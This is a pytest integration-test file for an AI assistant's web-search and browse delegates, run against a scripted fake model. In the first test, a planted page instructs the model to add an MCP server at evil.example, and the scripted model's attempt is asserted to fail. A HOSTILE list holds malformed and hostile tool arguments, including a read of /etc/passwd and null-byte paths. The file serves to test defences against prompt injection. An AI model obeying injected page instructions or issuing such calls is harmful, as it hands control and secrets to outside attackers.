"""A whole web_search delegate turn: chat -> find_tools -> web_search -> the web-search sub-turn
(search on a SearXNG-shaped endpoint, web_fetch of the local site) -> the answer with sources.

The daemon is real (in this process), the model is the scripted one on loopback (tools/fake_llm),
sloppy where a small model would be: it calls mcp_manager from inside the delegate after reading
a page that tells it to, and fetches that page too.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from actors.calls.dispatcher import DispatcherActor
from actors.conversation.conversations import Conversations
from actors.gate.policy import PolicyActor
from chalie.calls import untrusted
from chalie.wire.events import PermissionRequest, RichPayload, ToolFinished
from chalie.wire.principals import LOCAL_OWNER
from tests.core.conversation.harness import Harness
from tests.core.web.site import ARTICLE_TEXT, SearxNG, Site
from tools.waiting import wait_until

pytestmark = pytest.mark.slow

QUESTION = "When was the harbour of Valletta rebuilt?"


@pytest.fixture(scope="module")
def world() -> Iterator[tuple[Harness, Site, SearxNG]]:
    site = Site()

    def results(q: str) -> list[dict[str, Any]]:
        return [
            {
                "title": "Valletta harbour history",
                "url": site.url("/article"),
                "content": "The harbour was rebuilt after the siege.",
                "publishedDate": "2026-03-01",
            },
            {"title": "Cheap flights", "url": site.url("/inject"), "content": "Flights to Malta"},
            {"title": "Never read", "url": "https://unread.example/", "content": "ignored"},
        ]

    searx = SearxNG(results)
    extra = (
        "[chat]\nport = 0\n[mcp_server]\nport = 0\n"
        "[web]\n"
        f'allow = ["127.0.0.1:{site.port}"]\n'
        "[web.search]\n"
        'provider = "searxng"\n'
        f'url = "{searx.url}"\n'
    )
    harness = Harness(extra_toml=extra)
    try:
        yield harness, site, searx
    finally:
        harness.close()
        searx.stop()
        site.stop()


def call(name: str, **arguments: Any) -> dict[str, Any]:
    return {"name": name, "arguments": {**arguments, "act_summary": f"{name} now"}}


def tool_names(request: dict[str, Any]) -> set[str]:
    return {t["function"]["name"] for t in request["body"].get("tools", [])}


def test_a_web_search_delegate_turn_from_chat_to_an_answer_with_sources(
    world: tuple[Harness, Site, SearxNG],
) -> None:
    h, site, searx = world
    article, inject = site.url("/article"), site.url("/inject")
    h.script(
        {
            "steps": [
                {"tool_calls": [call("find_tools", query=["web_search"])]},
                {"tool_calls": [call("web_search", task=QUESTION)]},
                # -- inside the delegate (web-search channel) --
                {"tool_calls": [call("search", query="valletta harbour rebuilt")]},
                {"tool_calls": [call("web_fetch", url=article), call("web_fetch", url=inject)]},
                # the page said so: the sloppy model tries; the delegate channel has no such tool
                {"tool_calls": [call("mcp_manager", action="add", url="http://evil.example/mcp")]},
                {
                    "text": "It was rebuilt in 1566, after the Great Siege.\n"
                    f"Sources:\n- Valletta harbour history: {article}"
                },
                # -- back on chat --
                {"text": "The harbour of Valletta was rebuilt in 1566."},
            ]
        }
    )
    accepted = h.send(QUESTION, "chat")
    cid = accepted.conversation_id
    asked = wait_until(lambda: h.of(cid, PermissionRequest), 30, "the ask for web_search")
    assert asked[0].tool == "web_search"  # the person consents to the delegate, once
    assert h.conversations.call(
        Conversations.answer, asked[0].request_id, "allow_once", LOCAL_OWNER
    ).result(10)
    end = h.finished(accepted, timeout=90)
    assert end.reason == "final", end
    assert end.text == "The harbour of Valletta was rebuilt in 1566."

    requests = h.server.app.requests
    assert len(requests) == 7
    chat_tools = tool_names(requests[0])
    assert "find_tools" in chat_tools and not chat_tools & {"search", "web_fetch", "browser"}
    # the delegate's model saw its pinned raw tools only: no find_tools, no mcp_manager
    for request in requests[2:6]:
        assert tool_names(request) == {"search", "web_fetch", "read"}, tool_names(request)
        assert "delegate for questions that need the web" in json.dumps(request["body"])

    # what the chat model got back from web_search: the answer, then the sources
    last = requests[6]["body"]["messages"]
    result = next(m for m in reversed(last) if m["role"] == "tool")["content"]
    lines = result.split("\n")
    assert lines[0].startswith("[web_search(status=success") and "untrusted=true" in lines[0]
    assert lines[1] == untrusted.WARNING_LINE
    assert lines[2] == "It was rebuilt in 1566, after the Great Siege."
    assert f"1. Valletta harbour history - {article}" in lines
    assert f"- Valletta harbour history: {article}" not in lines  # the model's own list went
    first_sentence = ARTICLE_TEXT.split(". ")[0] + "."
    assert f'    "{first_sentence}"' in lines  # the passage the answer used
    assert f"Cheap flights - {inject}" in result  # read, so a source too
    assert "unread.example" not in result  # a hit never read nor cited is not a source

    # the full results as the rich payload of the chat's web_search call
    rich = [e for e in h.of(cid, RichPayload) if e.tool == "web_search"]
    assert len(rich) == 1
    payload = rich[0].payload
    assert payload["sources"][0] == {
        "title": "Valletta harbour history",
        "url": article,
        "passage": first_sentence,
    }
    assert [r["tool"] for r in payload["results"]] == [
        "search",
        "web_fetch",
        "web_fetch",
        "mcp_manager",
    ]
    assert payload["results"][3]["status"] == "error"
    assert payload["results"][3]["code"] == "unknown-tool"
    assert payload["results"][1]["payload"]["source"]["url"] in (article, inject)
    assert searx.queries == ["valletta harbour rebuilt"]

    # the trail: the inner calls on the delegate's conversation, each naming the parent call
    trail = h.rt.child("dispatcher", DispatcherActor).within(10)
    parent = trail.call(DispatcherActor.trail, tool="web_search", conversation_id=cid)
    assert len(parent) == 1 and parent[0].status == "success" and parent[0].channel == "chat"
    inner = trail.call(DispatcherActor.trail, parent_call_id=parent[0].call_id)
    assert sorted((r.tool, r.status, r.code) for r in inner) == [
        ("mcp_manager", "error", "unknown-tool"),
        ("search", "success", None),
        ("web_fetch", "success", None),
        ("web_fetch", "success", None),
    ]
    assert {r.conversation_id for r in inner} == {payload["conversation_id"]} != {cid}
    assert all(r.channel == "subconscious" and r.decided_by in ("internal", None) for r in inner)
    # mcp_manager never ran: no server was added
    assert site.elsewhere_hits == []
    finished = [e for e in h.of(cid, ToolFinished) if e.tool == "web_search"]
    assert finished and finished[0].status == "success"


def test_a_cancel_of_the_parent_turn_cancels_the_delegate(
    world: tuple[Harness, Site, SearxNG],
) -> None:
    h, site, _ = world
    h.rt.child("policy", PolicyActor).call(PolicyActor.set, "chat", "web_search", "allow")
    h.script(
        {
            "steps": [
                {"tool_calls": [call("find_tools", query=["web_search"])]},
                {"tool_calls": [call("web_search", task="slow one")]},
                {"tool_calls": [call("web_fetch", url=site.url("/slow"))]},
            ],
            "on_tool": {"text": "late"},
            "on_user": {"text": "late"},
        }
    )
    accepted = h.send("find the slow thing", "chat")
    cid = accepted.conversation_id
    trail = h.rt.child("dispatcher", DispatcherActor).within(10)

    def inner_running() -> list[Any]:
        parent = trail.call(DispatcherActor.trail, tool="web_search", conversation_id=cid)
        if not parent:
            return []
        rows = trail.call(DispatcherActor.trail, parent_call_id=parent[0].call_id)
        return [r for r in rows if r.tool == "web_fetch"]

    wait_until(inner_running, 30, "the delegate's web_fetch to start")
    assert h.conversations.call(Conversations.cancel, cid).result(10) is True
    end = h.finished(accepted, timeout=30)
    assert end.reason == "cancelled"

    def delegate_ended() -> bool:
        rows = trail.call(DispatcherActor.trail, tool="web_search", conversation_id=cid)
        return bool(rows) and rows[0].status != "running"

    wait_until(delegate_ended, 30, "the web_search call to end")
    parent = trail.call(DispatcherActor.trail, tool="web_search", conversation_id=cid)[0]
    assert parent.code == "cancelled"
    delegate_conversation = inner_running()[0].conversation_id

    def delegate_reasons() -> list[Any]:
        turns = h.conversations.call(Conversations.show, delegate_conversation)["turns"]
        return [t.reason for t in turns if t.reason is not None]

    assert wait_until(delegate_reasons, 30, "the delegate's turn to end") == ["cancelled"]


def test_a_web_browse_delegate_drives_the_browser_and_sees_its_scoped_mcp_tool(
    world: tuple[Harness, Site, SearxNG],
) -> None:
    from chalie.mcp.proxy import install
    from tests.core.web.test_isolation import _row

    h, site, _ = world
    row = _row("fetchsrv", "fetch")
    install(h.rt.registry, [row], enabled=True, timeout=5, channels=("web-browse",))
    h.rt.child("policy", PolicyActor).call(PolicyActor.set, "chat", "web_browse", "allow")
    page = site.url("/js")
    h.script(
        {
            "steps": [
                {"tool_calls": [call("find_tools", query=["web_browse", row.proxy])]},
                {"tool_calls": [call("web_browse", task="What does the museum page say?")]},
                {"tool_calls": [call("browser", action="open", url=page)]},
                {
                    "tool_calls": [
                        call("browser", action="type", selector="#q", text="ferry", submit=True)
                    ]
                },
                {"text": f"The museum opens at 09:30 and closes at 17:00.\nSources: {page}"},
                {"text": "It opens at 09:30."},
            ]
        }
    )
    accepted = h.send("when does the museum open?", "chat")
    end = h.finished(accepted, timeout=120)
    assert end.reason == "final" and end.text == "It opens at 09:30."
    requests = h.server.app.requests
    assert row.proxy not in tool_names(requests[1])  # chat: not found by find_tools
    found = json.dumps(requests[1]["body"]["messages"])
    assert "not_found" in found and row.proxy in found
    for request in requests[2:5]:
        assert tool_names(request) == {"browser", "web_fetch", "read", row.proxy}
    back = next(m for m in reversed(requests[5]["body"]["messages"]) if m["role"] == "tool")
    assert "The museum opens at 09:30 and closes at 17:00." in back["content"]
    assert f"1. Rendered later - {page}" in back["content"]
    typed = json.dumps(requests[4]["body"]["messages"])
    assert "You searched for ferry" in typed  # the page's own script ran in Chromium
    web = h.rt.services.web
    assert web is not None
    wait_until(lambda: web.browser.sessions() == 0, 30, "the delegate's page to close")


def test_a_delegate_call_can_run_in_the_background(world: tuple[Harness, Site, SearxNG]) -> None:
    from chalie.wire.events import BackgroundResult

    h, site, _ = world
    h.rt.child("policy", PolicyActor).call(PolicyActor.set, "chat", "web_search", "allow")
    background = call("web_search", task="background question")
    background["arguments"]["async"] = True
    h.script(
        {
            "steps": [
                {"tool_calls": [call("find_tools", query=["web_search"])]},
                {"tool_calls": [background]},
            ],
            # the chat's next step (after the call went to the background) and the
            # delegate's only step (its last message is the task) answer by reaction
            "on_tool": {"text": "I am looking it up in the background."},
            "on_user": {"text": f"Found it on {site.url('/article')} quickly."},
        }
    )
    accepted = h.send("look this up while we talk", "chat")
    end = h.finished(accepted, timeout=60)
    assert end.reason == "final" and end.text == "I am looking it up in the background."
    cid = accepted.conversation_id
    delivered = wait_until(lambda: h.of(cid, BackgroundResult), 60, "the delegate's answer")
    envelope = delivered[0].envelope
    assert delivered[0].tool == "web_search" and "status=success" in envelope.split("\n")[0]
    assert f"Found it on {site.url('/article')} quickly." in envelope
    assert f"1. {site.url('/article')} - {site.url('/article')}" in envelope  # cited, not read


HOSTILE = [
    ("web_fetch", {"url": 5}, "invalid-param"),
    ("web_fetch", {"url": "http://x.example/" + "a" * 5000}, "invalid-param"),
    ("web_fetch", {"url": "not a url"}, "blocked-address"),
    ("web_fetch", {"url": "http://[::1"}, "blocked-address"),
    ("web_fetch", {"url": "http://127.0.0.1:1/\x00"}, "invalid-param"),
    ("web_fetch", {"url": "https://x.example/", "surprise": True}, "invalid-param"),
    ("search", {"query": ""}, "invalid-param"),
    ("search", {"query": "   "}, "invalid-param"),
    ("read", {"path": "/etc/passwd"}, "path-not-allowed"),
    ("read", {"path": "a\x00b"}, "invalid-param"),
    ("browser", {"action": "explode"}, "unknown-action"),
    ("browser", {"action": "open"}, "missing-params"),
    ("browser", {"action": "type", "selector": "#q"}, "missing-params"),
    ("web_search", {"task": ""}, "invalid-param"),
    ("web_search", {"task": "x" * 5000}, "invalid-param"),
]


@pytest.mark.parametrize(("tool", "arguments", "code"), HOSTILE)
def test_hostile_arguments_get_a_structured_error_through_the_dispatcher(
    world: tuple[Harness, Site, SearxNG], tool: str, arguments: dict[str, Any], code: str
) -> None:
    from actors.calls.dispatcher import submit
    from chalie.calls.envelope import parse
    from chalie.wire.messages import ToolCall, TurnContext

    h, _, _ = world
    channel = "chat" if tool == "web_search" else "subconscious"
    pinned = ("web_search",) if tool == "web_search" else ("search", "web_fetch", "read", "browser")
    context = TurnContext(
        conversation_id="c_hostile", turn_id="t_hostile", channel=channel, injected=pinned
    )
    outcome = submit(
        h.rt.child("dispatcher", DispatcherActor).current(),
        ToolCall(
            call_id="x", tool=tool, arguments={**arguments, "act_summary": "x"}, context=context
        ),
    ).result(30)
    assert outcome.status == "error" and outcome.code == code, outcome.envelope
    assert len(parse(outcome.envelope)) == 1


def test_the_raw_web_tools_stay_off_plain_chat(world: tuple[Harness, Site, SearxNG]) -> None:
    h, site, _ = world
    fetched_before = site.hits.count("/article")
    h.script(
        {
            "steps": [
                {"tool_calls": [call("find_tools", query=["web_fetch", "browser", "search"])]},
                {"tool_calls": [call("web_fetch", url=site.url("/article"))]},
                {"text": "I could not."},
            ]
        }
    )
    accepted = h.send("fetch the article yourself", "chat")
    end = h.finished(accepted, timeout=60)
    assert end.reason == "final"
    requests = h.server.app.requests
    found = next(m for m in requests[1]["body"]["messages"] if m["role"] == "tool")["content"]
    for raw in ("web_fetch", "browser", "search"):
        assert raw not in tool_names(requests[1]) and raw not in tool_names(requests[2])
    assert '"not_found"' in found
    refused = next(m for m in reversed(requests[2]["body"]["messages"]) if m["role"] == "tool")
    assert "code=unknown-tool" in refused["content"]
    assert site.hits.count("/article") == fetched_before  # nothing was fetched


def test_an_agents_delegate_sub_turn_runs_as_that_agent(
    world: tuple[Harness, Site, SearxNG],
) -> None:
    """Issue 30: a delegate's sub-turn for an agent's turn ran as the owner (no principal: the
    owner's memory key, ``local`` on the trail). It runs as the agent that asked."""
    from chalie.conversation.requests import SendMessage
    from chalie.wire.principals import Principal

    h, _site, _searx = world
    agent = Principal(scope="agent", id="tok_delegating", name="delegating")
    policy = h.rt.child("policy", PolicyActor).within(10)
    policy.call(PolicyActor.set, "external_agent", "web_search", "allow")
    h.script(
        {
            "steps": [
                {"tool_calls": [call("find_tools", query=["web_search"])]},
                {"tool_calls": [call("web_search", task=QUESTION)]},
                {"tool_calls": [call("search", query="valletta harbour rebuilt")]},
                {"text": "It was rebuilt in 1566."},
                {"text": "Rebuilt in 1566."},
            ]
        }
    )
    accepted = h.conversations.call(
        Conversations.submit,
        SendMessage(
            conversation_id=None,
            channel="external_agent",
            text=QUESTION,
            client_msg_id="agent-delegate",
            principal=agent,
        ),
    ).result(10)
    assert h.finished(accepted, timeout=90).reason == "final"
    trail = h.rt.child("dispatcher", DispatcherActor).within(10)
    (parent,) = trail.call(
        DispatcherActor.trail, tool="web_search", conversation_id=accepted.conversation_id
    )
    assert parent.status == "success" and parent.principal == agent.id
    inner = trail.call(DispatcherActor.trail, parent_call_id=parent.call_id)
    assert [(r.tool, r.principal) for r in inner] == [("search", agent.id)]


def test_the_prompt_says_how_often_a_reminder_fires_and_what_was_read_first(
    world: tuple[Harness, Site, SearxNG],
) -> None:
    """Issue 30: a reminder's approval prompt showed its rule (an RRULE) as a parameter, and
    a prompt raised after the turn had read untrusted content (a page, mail, a remote tool)
    did not say so. The prompt now says how often the reminder fires in words, and names
    the untrusted sources the conversation had read before the call."""
    h, site, _ = world
    policy = h.rt.child("policy", PolicyActor).within(10)
    policy.call(PolicyActor.set, "chat", "web_search", "allow")

    def remind(every: str) -> dict[str, Any]:
        return {
            "tool_calls": [
                call("reminder", action="set", text="ferries", every=every, zone="Europe/Malta")
            ]
        }

    h.script(
        {
            "steps": [
                {"tool_calls": [call("find_tools", query=["web_search", "reminder"])]},
                remind("FREQ=DAILY;BYHOUR=9;BYMINUTE=0"),
                {"tool_calls": [call("web_search", task=QUESTION)]},
                # -- inside the delegate --
                {"tool_calls": [call("search", query="valletta harbour rebuilt")]},
                {"tool_calls": [call("web_fetch", url=site.url("/inject"))]},
                {"text": "It was rebuilt in 1566."},
                # -- back on chat, after an untrusted result --
                remind("*/10 * * * *"),
                {"text": "I did not set them."},
            ]
        }
    )
    accepted = h.send(QUESTION + " And remind me daily.", "chat")
    cid = accepted.conversation_id

    def asked(count: int) -> PermissionRequest:
        found = wait_until(
            lambda: [e for e in h.of(cid, PermissionRequest) if e.tool == "reminder"][count:],
            60,
            "the ask for the reminder",
        )[0]
        assert h.conversations.call(
            Conversations.answer, found.request_id, "deny", LOCAL_OWNER
        ).result(10)
        return found

    first = asked(0)
    (daily,) = first.notes  # nothing untrusted read yet
    assert daily.startswith("fires every day at 09:00; next on "), daily
    assert daily.endswith(" at 09:00 (Europe/Malta)"), daily
    assert f"Note: {daily}" in first.prompt
    second = asked(1)
    often, read = second.notes
    assert often.startswith("fires every 10 minutes; next on "), often
    assert "untrusted content (from web_search)" in read, read
    assert f"Note: {often}" in second.prompt and f"Note: {read}" in second.prompt
    assert h.finished(accepted, timeout=60).reason == "final"
